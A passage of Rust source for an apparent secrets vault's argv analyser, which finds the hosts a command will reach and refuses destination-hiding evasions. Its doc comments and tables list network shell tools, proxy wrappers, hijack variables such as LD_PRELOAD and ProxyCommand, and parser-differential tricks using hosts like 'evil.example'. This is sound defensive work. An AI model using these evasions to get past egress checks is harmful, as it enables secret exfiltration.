//! Finding the network destinations a command line will reach, before it
//! runs, so each injected secret's egress policy can be checked against
//! them.
//!
//! Input is the argv template *before* `{{secure.NAME}}` placeholders are
//! substituted. Output is every destination found (host normalised, port
//! when it can be known) or an [`Evasion`]: a construct that hides or
//! redirects the destination, which refuses the run. The guiding rule is
//! that when the analysis is unsure it must err towards *more*
//! destinations or an evasion, never towards "no destinations".
//!
//! # What is analysed
//! - The whole argv, through wrappers (`env`, `sudo`, `doas`, `xargs`,
//!   `timeout`, `nice`, `ionice`, `exec`, `command`, `builtin`, `nohup`,
//!   `time`, `stdbuf`, `setsid`, `taskset`, `strace`, `busybox`) and into
//!   `sh|bash|zsh|dash|ksh|mksh|ash|fish -c` scripts and `eval` strings,
//!   which go through a small shell lexer (quotes, escapes, `;` `&&` `||`
//!   `|` `&`, `( )`, `$(…)`, backticks, `<(…)`, redirections, keywords,
//!   `NAME=value` assignments that are unconditionally set once at the top
//!   level are substituted into later `$NAME`; every other expansion is
//!   unknown). A script the lexer cannot follow (here-documents, unbalanced
//!   quotes, very large) falls back to scanning every word and analysing
//!   every segment that starts with a known program.
//! - Known programs, with their options that take values, so a value is
//!   not mistaken for a target: `curl`/`curlie`, `wget`, httpie
//!   (`http`/`https`), `xh`/`xhs`, `ssh`, `scp`, `sftp`, `rsync`, `git`,
//!   `redis-cli`, `psql` and the `pg_*` tools, `mysql`/`mariadb`/
//!   `mysqldump`/`mysqladmin`, `mongosh`/`mongo`, `nc`/`ncat`/`netcat`,
//!   `telnet`, `socat`.
//! - Programs that run another command (`docker`, `kubectl`, `op run --`,
//!   `watch`, …): their arguments are scanned generically, and any argument
//!   that names a known program starts a nested command analysis; an
//!   argument with spaces is analysed as a shell script.
//! - Inline environment assignments (`VAR=value cmd`, `env VAR=value`,
//!   `export` in scripts): proxy variables and variables that make a tool
//!   read hidden configuration are evasions; values are scanned generically;
//!   `*HOST*` variables with a host value are destinations.
//!
//! # Generic scan (unknown programs, option values, data words)
//! - URL: any `scheme://` anywhere in a word (`x=https://a.com`,
//!   `"https://a.com")`), with the parser-differential checks below.
//!   Schemes whose authority is not a network host (`file`, `s3`, `gs`,
//!   `az`, `unix`, …) are skipped.
//! - `user@host[:path]` where host is a dotted name with an alphabetic last
//!   label, a dotted-quad IPv4 or a bracketed IPv6 (so `serde@1.0`,
//!   `pkg@1.2.3`, `image@sha256:…` are not hosts); port unknown.
//! - `host:port[/path]` with the same host rule, and the last label not a
//!   common file extension (so `main.rs:10` is a file position, not a host).
//! - `/dev/tcp/HOST/PORT` and `/dev/udp/…` (bash network redirections).
//! - For unknown programs only: the value of `--host`, `--hostname`,
//!   `--server`, `--endpoint(-url)`, `--url`, `--uri`, `--addr(ess)`,
//!   `--base-url`, `--api-url`, `--registry`; the command after a `--`
//!   separator when it names a known program.
//! - Bare words are never hosts on their own, so `echo hello`, `ls -la
//!   /tmp`, `python3 -c 'print(1)'`, `date +%H:%M:%S`, `git status`, `cargo
//!   test`, `make -j4`, `grep foo:bar file` have no destinations; pure text
//!   tools (`echo`, `printf`, `grep`, `ls`, …) are not scanned at all.
//!
//! # Evasions (the run is refused)
//! - URL parser differentials: more than one `@` in the authority, `@`
//!   after a `?`/`#` in the authority, a backslash, percent-encoding or a
//!   unicode full stop (`。` `．` `｡`) in the host, whitespace or control
//!   characters, an empty host (`http:///x`), a special scheme without `//`
//!   (`https:evil.com`), bare IPv6 without brackets, a host that does not
//!   normalise, or our parser and the `url` crate disagreeing on the host.
//! - A host (or port) in a known host position that comes from a secret
//!   placeholder `{{…}}` or from run time (`$VAR`, `$(…)`, backticks,
//!   `xargs` input).
//! - curl: `Host:` headers (`-H`, `--header`, `--header=`, `-HHost:`,
//!   headers read from `@file`), `--resolve`, `--connect-to`, `-x`,
//!   `--proxy`, `--preproxy`, `--socks*`, `-K`/`--config`, `--unix-socket`,
//!   `--abstract-unix-socket`, `--doh-url`, `--dns-servers`, `--alt-svc`,
//!   `--ipfs-gateway`, `--variable`/`--expand-*`, `--location-trusted`.
//! - wget: `-e`/`--execute`, `-i`/`--input-file`, `--config`, `Host:`
//!   headers, `-H`/`--span-hosts`.
//! - httpie/xh: `Host:` request items, `--proxy`, `--resolve`,
//!   `--unix-socket`.
//! - ssh/scp/sftp: `-J`, `-F`, `-S`, `-D` (sftp/scp), any `-o` option not
//!   on a short list of harmless ones (`ProxyCommand`, `ProxyJump`,
//!   `HostName`, `ControlPath`, `LocalCommand`, `CanonicalDomains`, …).
//! - rsync: `-e`/`--rsh` unless it is plain `ssh` with harmless options.
//! - git: `-c`/`--config-env`/`clone -c` keys not on a harmless list
//!   (`http.proxy`, `core.sshCommand`, `http.extraHeader`,
//!   `url.*.insteadOf`, `alias.*`, …), `--upload-pack`/`--receive-pack`/
//!   `--exec`, `ext::`/`fd::` transports, `--recurse-submodules`, and
//!   fetch/pull/push/ls-remote/`remote update`/`submodule update` whose
//!   repository is a remote *name* or absent: a remote name is resolved
//!   from `.git/config`, which argv cannot show, so pass the URL instead.
//! - Inline `*_PROXY` variables (not `NO_PROXY`), `GIT_SSH(_COMMAND)`,
//!   `GIT_PROXY_COMMAND`, `GIT_CONFIG_*`, `RSYNC_RSH`,
//!   `RSYNC_CONNECT_PROG`, `CURL_HOME`, `WGETRC`, `HOSTALIASES`,
//!   `LOCALDOMAIN`, `LD_PRELOAD`, `LD_AUDIT`, `BASH_ENV`, `ENV`,
//!   `PGSERVICE*`; mysql `--defaults-file`/`--login-path`; psql
//!   `service=`; nc `-x`/`-X`/`--proxy`; socat `SOCKS*`/`PROXY*`;
//!   `proxychains`, `torsocks`, `torify`, `tsocks`.
//! - `xargs` feeding stdin-supplied arguments to a network program, a
//!   shell reading its script from stdin inside an analysed script, and
//!   nesting deeper than the analysis budget.
//!
//! # What an argv check cannot see
//! - Destinations built at run time by the program itself, or inside
//!   scripts and programs on disk (`./deploy.sh`, `python app.py`,
//!   `make deploy`, `npm run x`, git aliases and hooks).
//! - Configuration files: `~/.ssh/config` (`Host` aliases, `HostName`,
//!   `ProxyJump`, `Port`), `~/.curlrc` (which curl reads by default and
//!   which can set a proxy, `--resolve` or `--connect-to` for every call),
//!   `~/.wgetrc`, `.netrc`, `~/.gitconfig` / `.git/config` (`insteadOf`,
//!   proxies, remotes), `~/.my.cnf`, `~/.pgpass`/`pg_service.conf`, and
//!   proxy variables already in the environment vault itself runs with.
//! - HTTP redirects (`curl -L`, `wget`) chosen by the server, SRV records
//!   (`mongodb+srv://`), and DNS in general: a name that is allowed may
//!   resolve to anywhere (rebinding, `/etc/hosts`), and an allowed host may
//!   proxy onwards.
//! - Default destinations of tools not listed here (`aws`, `gh`, `docker
//!   push`, `npm publish` talk to their services without a host in argv).
//! - A secret value substituted into a URL that itself contains `@`, `/` or
//!   `#` changes that URL's structure after this check.
//!
//! The argv check is a guard-rail against mistakes and casual misuse, not a
//! sandbox: a network-level egress control is the next step.

use std::collections::HashMap;
use std::fmt;

use thiserror::Error;

use super::normalize;

/// One host (and port, when known) that the command will connect to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Destination {
    /// Normalised host (see [`normalize::host`]).
    pub host: String,
    /// `None` when the port cannot be known from argv (unknown scheme,
    /// `user@host` in an unknown program, SRV lookups).
    pub port: Option<u16>,
    /// Where it was found, e.g. `curl URL argument 2`.
    pub source: String,
}

impl fmt::Display for Destination {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&normalize::display_host_port(&self.host, self.port))
    }
}

/// The command hides or redirects its destination; the run is refused.
#[derive(Debug, Clone, PartialEq, Eq, Error)]
#[error("{reason} ({location})")]
pub struct Evasion {
    /// One line: what was found and why it cannot be checked.
    pub reason: String,
    /// Where, e.g. `curl option argument 3`.
    pub location: String,
}

/// Every destination in `argv` (deduplicated by host and port, first
/// source kept), or the first evasion found.
pub fn destinations(argv: &[String]) -> Result<Vec<Destination>, Evasion> {
    let mut ctx = Ctx::default();
    ctx.command(argv, &Loc::top())?;
    Ok(ctx.out)
}

// ---------------------------------------------------------------------------
// Context and locations

/// Nesting beyond this (scripts in scripts in wrappers…) is refused rather
/// than analysed: it has no legitimate use and bounds the work on hostile
/// input.
const MAX_DEPTH: usize = 16;
/// Total commands analysed per argv, for the same reason.
const MAX_COMMANDS: usize = 5_000;
/// Scripts longer than this are not lexed, only scanned generically.
const MAX_SCRIPT: usize = 256 * 1024;

#[derive(Default)]
struct Ctx {
    out: Vec<Destination>,
    depth: usize,
    commands: usize,
    /// Inside a lexed script (a shell there reading stdin is an evasion).
    in_script: usize,
}

/// Where the words being analysed sit, for `source` strings.
#[derive(Clone)]
struct Loc {
    prefix: String,
    offset: usize,
}

impl Loc {
    fn top() -> Self {
        Self {
            prefix: String::new(),
            offset: 0,
        }
    }
    /// Words starting `by` positions later.
    fn shift(&self, by: usize) -> Self {
        Self {
            prefix: self.prefix.clone(),
            offset: self.offset + by,
        }
    }
    fn src(&self, what: &str, i: usize) -> String {
        format!("{}{what} argument {}", self.prefix, self.offset + i)
    }
    fn nested(&self, what: &str, i: usize) -> Self {
        Self {
            prefix: format!("{}{what} argument {}: ", self.prefix, self.offset + i),
            offset: 0,
        }
    }
}

fn ev(reason: impl Into<String>, location: impl Into<String>) -> Evasion {
    Evasion {
        reason: reason.into(),
        location: location.into(),
    }
}

type Res = Result<(), Evasion>;

fn get(words: &[String], i: usize) -> Option<&str> {
    words.get(i).map(String::as_str)
}

fn tail(words: &[String], from: usize) -> &[String] {
    words.get(from..).unwrap_or(&[])
}

/// The program a word names when it starts a nested command: `curl`,
/// `/usr/bin/curl`, `./curl`, but not `curlimages/curl` (an image name).
fn program_word(w: &str) -> Option<&str> {
    if w.starts_with('/') || w.starts_with("./") {
        Some(basename(w))
    } else if w.contains('/') {
        None
    } else {
        Some(w)
    }
}

/// `/usr/bin/curl` → `curl`.
fn basename(w: &str) -> &str {
    w.rsplit('/').next().unwrap_or(w)
}

// ---------------------------------------------------------------------------
// Option parsing shared by the program handlers

/// What a program's options look like. Whether a long option takes a value
/// is decided on its exact name; evasion checks ([`is_long`]) also match
/// abbreviations of 3+ characters, because GNU getopt, argparse, git and
/// MySQL accept them (`wget --exec` is `--execute`).
struct Spec {
    /// Short options that take a value (attached or next word).
    short_val: &'static str,
    /// Short options whose value can only be attached (`mysql -pPASS`).
    short_attached: &'static str,
    /// Long options (without `--`) that take a value.
    long_val: &'static [&'static str],
    /// Long option prefixes that take a value (`expand-`).
    long_val_prefix: &'static [&'static str],
}

#[derive(Debug)]
enum Tok {
    /// `name` is `-x` or `--long`; `idx` is where the option is, `vidx`
    /// where its value is (same word when attached).
    Opt {
        name: String,
        value: Option<String>,
        idx: usize,
        vidx: usize,
    },
    Pos {
        word: String,
        idx: usize,
    },
}

/// Resolve a long option name against a list, allowing abbreviations.
fn long_matches(name: &str, list: &[&str]) -> bool {
    list.contains(&name) || (name.len() >= 3 && list.iter().any(|l| l.starts_with(name)))
}

impl Spec {
    /// Exact names only: guessing that an abbreviation takes a value could
    /// swallow a target, while guessing it does not only adds destinations.
    fn takes_value_long(&self, name: &str) -> bool {
        self.long_val.contains(&name) || self.long_val_prefix.iter().any(|p| name.starts_with(p))
    }

    /// Split args into options and positionals. With `stop_at_pos`,
    /// everything from the first positional on is positional (wrappers,
    /// `ssh host cmd…`).
    fn parse(&self, args: &[String], stop_at_pos: bool) -> Vec<Tok> {
        let mut out = Vec::new();
        let mut i = 0;
        let mut only_pos = false;
        while let Some(w) = get(args, i) {
            if only_pos || w == "-" || !w.starts_with('-') {
                out.push(Tok::Pos {
                    word: w.to_string(),
                    idx: i,
                });
                if stop_at_pos {
                    only_pos = true;
                }
                i += 1;
                continue;
            }
            if w == "--" {
                only_pos = true;
                i += 1;
                continue;
            }
            if let Some(long) = w.strip_prefix("--") {
                if let Some((name, value)) = long.split_once('=') {
                    out.push(Tok::Opt {
                        name: format!("--{name}"),
                        value: Some(value.to_string()),
                        idx: i,
                        vidx: i,
                    });
                } else if self.takes_value_long(long) {
                    out.push(Tok::Opt {
                        name: format!("--{long}"),
                        value: get(args, i + 1).map(str::to_string),
                        idx: i,
                        vidx: i + 1,
                    });
                    i += 1;
                } else {
                    out.push(Tok::Opt {
                        name: w.to_string(),
                        value: None,
                        idx: i,
                        vidx: i,
                    });
                }
                i += 1;
                continue;
            }
            // Short cluster: `-sSL`, `-XPOST`, `-o file`.
            let cluster: Vec<char> = w.chars().skip(1).collect();
            let mut consumed_next = false;
            for (k, c) in cluster.iter().enumerate() {
                let rest: String = cluster.iter().skip(k + 1).collect();
                if self.short_val.contains(*c) {
                    if rest.is_empty() {
                        out.push(Tok::Opt {
                            name: format!("-{c}"),
                            value: get(args, i + 1).map(str::to_string),
                            idx: i,
                            vidx: i + 1,
                        });
                        consumed_next = true;
                    } else {
                        out.push(Tok::Opt {
                            name: format!("-{c}"),
                            value: Some(rest),
                            idx: i,
                            vidx: i,
                        });
                    }
                    break;
                }
                if self.short_attached.contains(*c) {
                    out.push(Tok::Opt {
                        name: format!("-{c}"),
                        value: (!rest.is_empty()).then_some(rest),
                        idx: i,
                        vidx: i,
                    });
                    break;
                }
                out.push(Tok::Opt {
                    name: format!("-{c}"),
                    value: None,
                    idx: i,
                    vidx: i,
                });
            }
            i += if consumed_next { 2 } else { 1 };
        }
        out
    }
}

/// Is `name` (`--x` form) one of the long options in `list`, allowing
/// abbreviations?
fn is_long(name: &str, list: &[&str]) -> bool {
    name.strip_prefix("--")
        .is_some_and(|n| long_matches(n, list))
}

// ---------------------------------------------------------------------------
// Program tables

const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "yash",
];

/// Programs whose arguments are never network destinations: pure text and
/// file tools. Not scanned at all, so an email in `echo` is not a host.
const LOCAL_ONLY: &[&str] = &[
    "echo",
    "printf",
    "true",
    "false",
    "test",
    "[",
    "ls",
    "pwd",
    "date",
    "sleep",
    "mkdir",
    "rmdir",
    "touch",
    "rm",
    "cp",
    "mv",
    "ln",
    "chmod",
    "chown",
    "cat",
    "head",
    "tail",
    "wc",
    "sort",
    "uniq",
    "cut",
    "tr",
    "grep",
    "egrep",
    "fgrep",
    "rg",
    "basename",
    "dirname",
    "realpath",
    "readlink",
    "mktemp",
    "tee",
    "seq",
    "yes",
    "id",
    "whoami",
    "uname",
    "ssh-keygen",
    "sha256sum",
    "sha1sum",
    "md5sum",
    "base64",
    "jq",
    "diff",
    "cmp",
    "file",
    "stat",
    "du",
    "df",
    "which",
    "type",
    "cd",
    "unset",
    "read",
    "exit",
    "return",
    "shift",
    "wait",
    "kill",
    "ps",
    "tput",
    "clear",
];

/// Programs that run a command given in their arguments.
const RUNNERS: &[&str] = &[
    "docker",
    "podman",
    "nerdctl",
    "kubectl",
    "oc",
    "uv",
    "uvx",
    "poetry",
    "pipenv",
    "npx",
    "pnpm",
    "yarn",
    "npm",
    "bunx",
    "bundle",
    "direnv",
    "nix",
    "nix-shell",
    "devbox",
    "flock",
    "chroot",
    "unshare",
    "nsenter",
    "firejail",
    "bwrap",
    "systemd-run",
    "parallel",
    "su",
    "runuser",
    "script",
    "watch",
    "entr",
    "tini",
    "dumb-init",
    "gosu",
    "su-exec",
    "chpst",
    "aws-vault",
    "op",
    "doppler",
    "dotenv",
    "env-cmd",
    "cross-env",
    "ltrace",
    "valgrind",
    "gdb",
    "unbuffer",
    "caffeinate",
    "chrt",
    "sg",
    "newgrp",
    "with-contenv",
    "s6-setuidgid",
    "timeout-cli",
];

const PROXY_RUNNERS: &[&str] = &[
    "proxychains",
    "proxychains4",
    "torsocks",
    "torify",
    "tsocks",
];

/// Programs with a dedicated handler (or wrappers/shells): a word naming
/// one of these inside a runner or a fallback segment starts a command.
fn is_known_program(p: &str) -> bool {
    SHELLS.contains(&p)
        || PROXY_RUNNERS.contains(&p)
        || matches!(
            p,
            "curl"
                | "curlie"
                | "wget"
                | "http"
                | "https"
                | "xh"
                | "xhs"
                | "ssh"
                | "scp"
                | "sftp"
                | "rsync"
                | "git"
                | "redis-cli"
                | "psql"
                | "pg_dump"
                | "pg_dumpall"
                | "pg_restore"
                | "pg_isready"
                | "pgbench"
                | "createdb"
                | "dropdb"
                | "mysql"
                | "mariadb"
                | "mysqldump"
                | "mysqladmin"
                | "mongosh"
                | "mongo"
                | "nc"
                | "ncat"
                | "netcat"
                | "telnet"
                | "socat"
                | "env"
                | "sudo"
                | "doas"
                | "xargs"
                | "timeout"
                | "nice"
                | "ionice"
                | "exec"
                | "command"
                | "builtin"
                | "nohup"
                | "time"
                | "stdbuf"
                | "setsid"
                | "taskset"
                | "strace"
                | "busybox"
                | "eval"
        )
}

/// Default port of a URL scheme; `None` when unknown or not fixed.
fn default_port(scheme: &str) -> Option<u16> {
    Some(match scheme {
        "http" | "ws" => 80,
        "https" | "wss" => 443,
        "ftp" => 21,
        "ftps" => 990,
        "ssh" | "sftp" | "scp" | "git+ssh" | "ssh+git" => 22,
        "git" => 9418,
        "rsync" => 873,
        "postgres" | "postgresql" => 5432,
        "mysql" | "mariadb" | "mysqlx" => 3306,
        "redis" | "rediss" => 6379,
        "mongodb" => 27017,
        "amqp" => 5672,
        "amqps" => 5671,
        "ldap" => 389,
        "ldaps" => 636,
        "smtp" => 25,
        "smtps" => 465,
        "imap" => 143,
        "imaps" => 993,
        "pop3" => 110,
        "pop3s" => 995,
        "telnet" => 23,
        "gopher" => 70,
        "dict" => 2628,
        "mqtt" => 1883,
        "mqtts" => 8883,
        "nats" => 4222,
        "tftp" => 69,
        "smb" | "smbs" => 445,
        _ => return None,
    })
}

/// Schemes whose authority is not a network host (bucket names, local
/// sockets, browser internals).
fn non_network_scheme(scheme: &str) -> bool {
    matches!(
        scheme,
        "file"
            | "s3"
            | "s3a"
            | "s3n"
            | "gs"
            | "az"
            | "abfs"
            | "abfss"
            | "wasb"
            | "wasbs"
            | "unix"
            | "data"
            | "about"
            | "blob"
            | "chrome"
            | "jar"
            | "npm"
            | "vscode"
            | "javascript"
            | "mailto"
            | "urn"
            | "x-unix"
    )
}

/// Schemes with comma-separated host lists.
fn multi_host_scheme(scheme: &str) -> bool {
    matches!(
        scheme,
        "mongodb" | "mongodb+srv" | "postgres" | "postgresql" | "redis+sentinel"
    )
}

/// Schemes where an empty host means a local socket, not a differential.
fn local_default_scheme(scheme: &str) -> bool {
    matches!(
        scheme,
        "postgres" | "postgresql" | "mysql" | "mariadb" | "redis" | "rediss" | "mongodb" | "sqlite"
    )
}

/// TAB, CR and LF: WHATWG URL parsers delete them anywhere in a URL and read on.
fn deleted_by_url_parsers(c: char) -> bool {
    matches!(c, '\t' | '\r' | '\n')
}

/// Schemes the WHATWG parser treats specially (and the `url` crate parses
/// like a browser): we cross-check our host against it.
fn special_scheme(scheme: &str) -> bool {
    matches!(scheme, "http" | "https" | "ws" | "wss" | "ftp")
}

/// Common file extensions: `x.rs:10` is a file position, not a host:port.
const FILE_EXTENSIONS: &[&str] = &[
    "rs", "py", "js", "mjs", "cjs", "ts", "tsx", "jsx", "go", "c", "h", "cc", "cpp", "hpp", "java",
    "kt", "rb", "php", "sh", "bash", "zsh", "md", "txt", "json", "yaml", "yml", "toml", "lock",
    "log", "cfg", "conf", "ini", "xml", "html", "htm", "css", "scss", "csv", "sql", "swift", "cs",
    "fs", "ex", "exs", "erl", "hs", "ml", "lua", "pl", "scala", "vue", "svelte", "proto", "tf",
    "el", "vim", "mod", "sum", "so", "dylib", "dll", "exe", "bin", "png", "jpg", "gif", "svg",
    "pdf", "zip", "gz", "tar", "tgz", "patch", "diff", "rst", "tex", "bak", "tmp", "out", "err",
    "pem", "key", "crt", "env", "ipynb", "dart", "zig", "nim", "jl", "rmd",
];

// ---------------------------------------------------------------------------
// Hosts: runtime markers, differentials, host:port splitting

/// Unicode characters UTS-46 maps to `.`: browsers split labels on them,
/// curl and most C code do not.
fn has_unicode_dot(s: &str) -> bool {
    s.chars().any(|c| {
        matches!(
            c,
            '\u{3002}' | '\u{FF0E}' | '\u{FF61}' | '\u{2024}' | '\u{FE52}'
        )
    })
}

/// A host that is not known before the command runs.
fn runtime_host(h: &str) -> Option<&'static str> {
    if h.contains("{{") {
        Some("comes from a secret placeholder or other template; a host must be written literally")
    } else if h.contains('$') || h.contains('`') {
        Some("is built at run time (variable or command substitution)")
    } else {
        None
    }
}

/// Parse a port in a known position. Empty means "scheme default".
fn port_value(p: &str, src: &str) -> Result<Option<u16>, Evasion> {
    if p.is_empty() {
        return Ok(None);
    }
    if let Some(why) = runtime_host(p) {
        return Err(ev(format!("port `{p}` {why}"), src));
    }
    match super::pattern::parse_port(p) {
        Some(n) => Ok(Some(n)),
        None => Err(ev(format!("`{p}` is not a valid port"), src)),
    }
}

/// Split `host[:port]` / `[v6][:port]`; several `:` without brackets is
/// ambiguous and refused.
fn split_host_port<'a>(hp: &'a str, src: &str) -> Result<(&'a str, &'a str), Evasion> {
    if let Some(rest) = hp.strip_prefix('[') {
        let Some(close) = rest.find(']') else {
            return Err(ev(format!("unterminated `[` in host `{hp}`"), src));
        };
        let host = hp.get(..close + 2).unwrap_or(hp);
        let after = rest.get(close + 1..).unwrap_or("");
        if after.is_empty() {
            return Ok((host, ""));
        }
        return match after.strip_prefix(':') {
            Some(port) => Ok((host, port)),
            None => Err(ev(format!("unexpected text after `]` in `{hp}`"), src)),
        };
    }
    match hp.matches(':').count() {
        0 => Ok((hp, "")),
        1 => Ok(hp.split_once(':').unwrap_or((hp, ""))),
        _ => Err(ev(
            format!("`{hp}` is ambiguous: IPv6 addresses must be in brackets"),
            src,
        )),
    }
}

/// Normalise a host found in a known host position, refusing what cannot
/// be normalised or is only known at run time.
fn known_host(h: &str, src: &str) -> Result<String, Evasion> {
    if let Some(why) = runtime_host(h) {
        return Err(ev(format!("host `{h}` {why}"), src));
    }
    if has_unicode_dot(h) {
        return Err(ev(
            format!("host `{h}` contains a unicode full stop, which parsers treat differently"),
            src,
        ));
    }
    normalize::host(h).map_err(|e| ev(format!("cannot check host `{h}`: {e}"), src))
}

/// For generic scans: a word part that certainly looks like a network host
/// (dotted name with an alphabetic last label, dotted-quad IPv4, or
/// bracketed IPv6). Returns the normalised host.
fn generic_host(h: &str, reject_file_ext: bool) -> Option<String> {
    if h.starts_with('[') {
        let n = normalize::host(h).ok()?;
        return n.contains(':').then_some(n);
    }
    let parts: Vec<&str> = h.split('.').collect();
    if parts.len() == 4
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|b| b.is_ascii_digit()))
    {
        return normalize::host(h).ok();
    }
    let last = parts.last()?;
    if parts.len() < 2
        || last.len() < 2
        || !last.bytes().all(|b| b.is_ascii_alphabetic())
        || !h
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_'))
        || h.starts_with(['-', '.', '_'])
    {
        return None;
    }
    if reject_file_ext && FILE_EXTENSIONS.contains(&last.to_ascii_lowercase().as_str()) {
        return None;
    }
    normalize::host(h).ok()
}

/// Valid URL scheme: a letter, then letters, digits, `+ - .`.
fn is_scheme(s: &str) -> bool {
    let mut b = s.bytes();
    b.next().is_some_and(|c| c.is_ascii_alphabetic())
        && b.all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'-' | b'.'))
}

/// `scheme://rest` when the whole word starts with a URL.
fn split_url(word: &str) -> Option<(String, &str)> {
    let (scheme, rest) = word.split_once("://")?;
    is_scheme(scheme).then(|| (scheme.to_ascii_lowercase(), rest))
}

/// Characters that end a URL embedded in a larger word.
fn url_terminator(c: char) -> bool {
    c.is_whitespace()
        || matches!(
            c,
            '"' | '\'' | '<' | '>' | '`' | '(' | ')' | ';' | '|' | '\0'
        )
}

/// A special scheme followed by `:` but not `//` (`https:evil.com`,
/// `https:/evil.com`, `https:\\evil.com`): WHATWG parsers still find a
/// host there, others do not.
fn slashless_special(word: &str) -> Option<String> {
    let lower = word.to_ascii_lowercase();
    for scheme in ["https:", "http:", "wss:", "ws:", "ftp:"] {
        let mut from = 0;
        while let Some(pos) = lower.get(from..).and_then(|s| s.find(scheme)) {
            let at = from + pos;
            from = at + scheme.len();
            let boundary = at == 0
                || lower
                    .get(..at)
                    .and_then(|s| s.chars().next_back())
                    .is_some_and(|c| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')));
            if !boundary {
                continue;
            }
            let after = lower.get(from..).unwrap_or("");
            if after.starts_with("//") {
                continue;
            }
            match after.chars().next() {
                None => {}
                // `https:` then a delimiter is usually prose or code (`"https:"`), unless
                // a userinfo `@` follows before any path: WHATWG parsers read
                // `https:;@evil.example` as a URL to evil.example.
                Some(c) if url_terminator(c) || c == ',' => {
                    let auth = after.split(['/', '?', '#']).next().unwrap_or("");
                    if auth.contains('@') {
                        return Some(word.get(at..).unwrap_or(word).to_string());
                    }
                }
                Some(_) => return Some(word.get(at..).unwrap_or(word).to_string()),
            }
        }
    }
    None
}

// ---------------------------------------------------------------------------
// URL analysis

impl Ctx {
    fn push(&mut self, host: String, port: Option<u16>, source: String) {
        if !self.out.iter().any(|d| d.host == host && d.port == port) {
            self.out.push(Destination { host, port, source });
        }
    }

    /// Destinations of `scheme://rest` (rest may run past the URL's end;
    /// only the authority and, for PostgreSQL, the query are read).
    fn url(&mut self, scheme: &str, rest: &str, src: &str) -> Res {
        let scheme = scheme.to_ascii_lowercase();
        if non_network_scheme(&scheme) {
            return Ok(());
        }
        // Transport helpers (`git-remote-*`) wrap another URL.
        let pre = rest.split('/').next().unwrap_or(rest);
        if pre.contains('\\') {
            return Err(ev(
                format!(
                    "backslash in the authority of `{scheme}://{pre}`: parsers disagree on the host"
                ),
                src,
            ));
        }
        let auth_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
        let authority = rest.get(..auth_end).unwrap_or(rest);
        if pre
            .get(authority.len()..)
            .is_some_and(|after| after.contains('@'))
        {
            return Err(ev(
                format!("`@` after `?` or `#` in `{scheme}://{pre}`: parsers disagree on the host"),
                src,
            ));
        }
        if authority.matches('@').count() > 1 {
            return Err(ev(
                format!(
                    "more than one `@` in `{scheme}://{authority}`: parsers disagree on the host"
                ),
                src,
            ));
        }
        if authority
            .chars()
            .any(|c| c.is_whitespace() || c.is_control())
        {
            return Err(ev(
                format!("whitespace or control character in the authority of a `{scheme}` URL"),
                src,
            ));
        }
        let hostport = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
        if hostport.contains('%') {
            return Err(ev(
                format!(
                    "percent-encoded host in `{scheme}://{hostport}`: parsers decode it differently"
                ),
                src,
            ));
        }
        if hostport.is_empty() {
            if scheme == "postgres" || scheme == "postgresql" {
                return self.pg_query_hosts(rest, src);
            }
            if local_default_scheme(&scheme) {
                return Ok(());
            }
            return Err(ev(
                format!("`{scheme}://` URL without a host: parsers disagree on where it goes"),
                src,
            ));
        }
        let default = if scheme == "mongodb+srv" {
            None
        } else {
            default_port(&scheme)
        };
        let hosts: Vec<&str> = if multi_host_scheme(&scheme) {
            hostport.split(',').collect()
        } else {
            vec![hostport]
        };
        for hp in hosts {
            if let Some(why) = runtime_host(hp) {
                return Err(ev(format!("host `{hp}` {why}"), src));
            }
            let (h, p) = split_host_port(hp, src)?;
            let host = known_host(h, src)?;
            let port = port_value(p, src)?.or(default);
            self.push(host, port, src.to_string());
        }
        if special_scheme(&scheme) {
            self.cross_check(&scheme, authority, src)?;
        }
        if scheme == "postgres" || scheme == "postgresql" {
            self.pg_query_hosts(rest, src)?;
        }
        Ok(())
    }

    /// Our host must be the one a WHATWG parser (the `url` crate) sees.
    fn cross_check(&mut self, scheme: &str, authority: &str, src: &str) -> Res {
        let text = format!("{scheme}://{authority}/");
        let (_, hp) = authority.rsplit_once('@').unwrap_or(("", authority));
        let (mine, _) = split_host_port(hp, src)?;
        let mine = known_host(mine, src)?;
        let theirs = url::Url::parse(&text)
            .ok()
            .and_then(|u| u.host_str().and_then(|h| normalize::host(h).ok()));
        match theirs {
            Some(t) if t == mine => Ok(()),
            Some(t) => Err(ev(
                format!("URL parsers disagree on the host of `{text}` (`{mine}` or `{t}`)"),
                src,
            )),
            None => Err(ev(format!("`{text}` is not a valid URL"), src)),
        }
    }

    /// libpq accepts `?host=` / `?hostaddr=` in the query of a URI; they
    /// override the authority.
    fn pg_query_hosts(&mut self, rest: &str, src: &str) -> Res {
        let Some((_, query)) = rest.split_once('?') else {
            return Ok(());
        };
        let query = query.split('#').next().unwrap_or(query);
        let mut port = Some(5432);
        for pair in query.split('&') {
            if let Some(p) = pair.strip_prefix("port=") {
                port = port_value(p.split(',').next().unwrap_or(""), src)?.or(Some(5432));
            }
        }
        for pair in query.split('&') {
            let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
            match k {
                "host" | "hostaddr" => {
                    for h in v.split(',') {
                        if h.is_empty()
                            || h.starts_with('/')
                            || h.starts_with("%2F")
                            || h.starts_with("%2f")
                        {
                            continue;
                        }
                        let host = known_host(h, src)?;
                        self.push(host, port, src.to_string());
                    }
                }
                "service" => {
                    return Err(ev(
                        "`service=` reads the host from pg_service.conf, which argv cannot show",
                        src,
                    ));
                }
                _ => {}
            }
        }
        Ok(())
    }

    /// A word in a known target position: a URL, or a schemeless target
    /// that the program completes with `default_scheme`.
    fn target(&mut self, word: &str, default_scheme: &str, src: &str) -> Res {
        if word.is_empty() {
            return Ok(());
        }
        if let Some((scheme, rest)) = split_url(word) {
            return self.url(&scheme, rest, src);
        }
        if let Some(bad) = slashless_special(word) {
            return Err(ev(
                format!("`{bad}` has a scheme but no `//`: parsers disagree on its host"),
                src,
            ));
        }
        if let Some(why) = runtime_host(word.split(['/', '?', '#']).next().unwrap_or(word)) {
            return Err(ev(format!("target `{word}` {why}"), src));
        }
